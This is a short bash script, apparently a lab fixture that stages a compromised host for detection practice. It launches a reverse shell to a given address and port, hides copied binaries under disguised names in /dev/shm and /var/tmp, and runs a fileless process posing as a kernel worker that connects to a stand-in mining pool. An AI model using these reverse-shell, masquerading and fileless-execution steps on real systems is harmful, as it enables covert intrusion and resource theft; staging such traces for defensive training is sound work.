#!/bin/bash
# attacked.sh ADDRESS PORT: a service that counts, and somebody who came in by it: a reverse shell, a miner in no file, files dropped.
python3 /srv/lab/counter.py &
python3 /srv/lab/python-shell.py "$1" "$2" >/dev/null &
mkdir -p /dev/shm/.x11 /var/tmp/...
cp /srv/lab/bin/idle /dev/shm/.x11/udevd
cp /srv/lab/bin/idle '/var/tmp/.../kthread'
'/var/tmp/.../kthread' &
/srv/lab/bin/memfd-exec kworker /srv/lab/bin/idle '[kworker/0:1]' -o stratum+tcp://pool.invalid:3333 >/dev/null &
sleep 1
echo attack in place
wait
